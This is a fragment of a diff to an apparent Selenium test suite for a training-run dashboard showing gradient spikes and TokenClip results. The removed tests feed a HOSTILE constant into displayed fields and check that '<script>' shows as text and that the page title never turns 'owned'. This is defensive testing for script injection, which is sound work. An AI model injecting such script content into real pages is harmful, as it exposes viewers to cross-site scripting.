     assert page.one("#level").size["height"] > 50
-    page.scheme("dark")
 
 
 def luminance(color: str) -> float:
@@ -570,9 +534,9 @@ def luminance(color: str) -> float:
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_the_colours_of_all_sources_can_be_told_from_the_paper(page: Page, forty: Path, scheme: str) -> None:
+def test_the_colours_of_all_sources_can_be_told_from_the_paper(page: Page, whole_run: Path, scheme: str) -> None:
     page.scheme(scheme)
-    page.open(forty)
+    page.open(whole_run)
     style = """const element = document.body.appendChild(document.createElement('i'));
         element.style.color = `var(--${arguments[0]})`;
         return getComputedStyle(element).color"""
@@ -580,93 +544,11 @@ def test_the_colours_of_all_sources_can_be_told_from_the_paper(page: Page, forty
     assert len(set(colors.values())) == len(meanings.SOURCES)
     for ground in ("paper", "card"):
         paper = luminance(page.driver.execute_script(style, ground))
+        assert (paper > 0.5) == (scheme == "light")
         for name, color in colors.items():
             lighter, darker = max(paper, luminance(color)), min(paper, luminance(color))
             # WCAG 2.1, 1.4.11: graphical objects need 3:1.
             assert (lighter + 0.05) / (darker + 0.05) >= 3, (name, ground)
-
-
-def test_replays_and_their_remedies_are_shown(page: Page, tmp_path: Path) -> None:
-    override = "actor_rollout_ref.actor.token_clip.enable=True"
-    remedy = {"name": "TokenClip", "norm": 3.0, "left": 0.0009, "under": True, "ordinary_moved": 0.02}
-    remedy |= {"masked": {"tokens": 2, "culprits": 1}, "override": override, "meaning": "signals are cut"}
-    notes = ["What cannot be computed is said.", HOSTILE]
-    told = replay_result(3, sentences=["The spike comes back.", HOSTILE], remedies=[{**remedy, "note": HOSTILE}])
-    write_replay(tmp_path, {**told, "remedy_notes": notes})
-    write_replay(tmp_path, replay_result(10**6, tokens=[], remedies=[], global_step=None))
-    page.open(build(tmp_path, samples(3)))
-    first, second = sorted(page.all("#replay-list .card"), key=lambda card: not card.text.startswith("Step 3: step3"))
-    for said in ("The spike comes back.", "bfloat16, sdpa on cpu; in training bfloat16, flash_attention_2", "<script>"):
-        assert said in first.text
-    assert notes[0] in first.text and f"TokenClip: {VISIBLY_HOSTILE}" in first.text
-    assert page.driver.title != "owned" and "Step" not in second.text.split(":")[0]
-    titles = [table.text for table in first.find_elements(By.CSS_SELECTOR, "summary")]
-    assert len(titles) == 4 and len(second.find_elements(By.CSS_SELECTOR, "details")) == 2
-    first.find_elements(By.CSS_SELECTOR, "summary")[-1].click()
-    (row,) = first.find_elements(By.CSS_SELECTOR, "details:last-of-type tbody tr")
-    shown = [cell.text for cell in row.find_elements(By.CSS_SELECTOR, "th, td")]
-    assert shown == ["TokenClip", "3", "under 1%", "yes", "2%", "2", "1", "signals are cut", override]
-    advice = page.driver.execute_script("return document.getElementById('help').textContent")
-    assert "In the replay of step 3, TokenClip fits best" in advice and override in advice
-
-
-@pytest.fixture(scope="module")
-def clipped_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A run with one spike in step 8. TokenClip found tokens in steps 3, 5 and 8, and stopped a spike in step 3."""
-    directory = tmp_path_factory.mktemp("clipped")
-    tokens = ["a", HOSTILE, " c"]
-    spike = event(8, [small(1, 9000.0)], mini_batch=2)
-    write_steps(directory, 12, events=[spike])
-    lines = [
-        clip(3, [clipped_token(1, tokens, 33.0, data_source=HOSTILE), clipped_token(-4, tokens, math.nan)]),
-        clip(5, [clipped_token(0, tokens, 6.0, boundary=HOSTILE)], "log"),
-        clip(8, [clipped_token(2, tokens, 5.0)], "smooth", mini_batch=2),
-        clip(None, [clipped_token(2, tokens, 4.5)]),
-    ]
-    return build(directory, [*lines, spike])
-
-
-def test_what_token_clip_found_is_shown(page: Page, clipped_run: Path) -> None:
-    page.open(clipped_run)
-    assert page.one("h1").text == "1 gradient spike in step 8"
-    assert page.one("#h-clips").text == "Tokens that TokenClip cut" and page.one("#clips-how").text == EXPLANATION
-    hint = page.one("#clips-hint").text
-    assert hint.startswith("In 4 mini-batches of steps 3 to 8, 5 backward signals were over their bounds: 4 were cut.")
-    rows = page.rows("#clips-scroll")
-    assert [[row[0], *row[3:5], row[-1]] for row in rows] == [
-        ["3", "NaN", "dropped", "–"],
-        ["3", "33", "dropped", "–"],
-        ["5", "6", "left", "–"],
-        ["8", "5", "reduced", "yes"],
-        ["–", "4.5", "dropped", "–"],
-    ]
-    assert (rows[0][1], rows[0][7]) == ("(prompt)", "prompt") and VISIBLY_HOSTILE in rows[1][1]
-    assert (rows[1][10], rows[2][2]) == (VISIBLY_HOSTILE,) * 2 and page.driver.title != "owned"
-    assert page.all("img") == []
-    # The link leads to the spike, which says so as well.
-    assert page.one("#clipped").text.startswith("TokenClip found 1 backward signal over its bound in this mini-batch")
-    page.one("#clips-rows button").click()
-    assert page.focused().get_attribute("id") == "spike"
-
-
-def test_steps_that_token_clip_stopped_are_marked(page: Page, clipped_run: Path) -> None:
-    page.open(clipped_run)
-    keys = [key.text for key in page.all("#level .key span")]
-    assert keys == ["token norm", "threshold", "spike", "stopped by TokenClip", "found by TokenClip"]
-    # A spike was left in step 8.
-    assert [len(page.all(f"#level .series:nth-of-type({i}) path")) for i in (5, 6)] == [1, 2]
-    label = page.one("#level").get_attribute("aria-label")
-    assert label.endswith("with 1 spike and 0 drills, and marks at 3 steps in which TokenClip found tokens.")
-    assert [key.text for key in page.all("#clips-chart .key span")] == ["dropped", "reduced", "left"]
-    assert len(page.all("#clips-chart .marks path")) == 4
-    page.hover(page.all("#clips-chart .marks path")[1])
-    text = page.tip()
-    assert "<b>x</b>" in text or "(prompt)" in text
-    page.hover(page.one("#level .series:nth-of-type(5) path"))
-    text = page.tip()
-    assert "stopped by TokenClip" in text and "2 cut" in text
-    ActionChains(page.driver).click().perform()
-    page.wait(lambda: page.focused().get_attribute("id") == "h-clips")
 
 
 def test_many_clipped_tokens_without_a_spike(page: Page, tmp_path: Path) -> None:
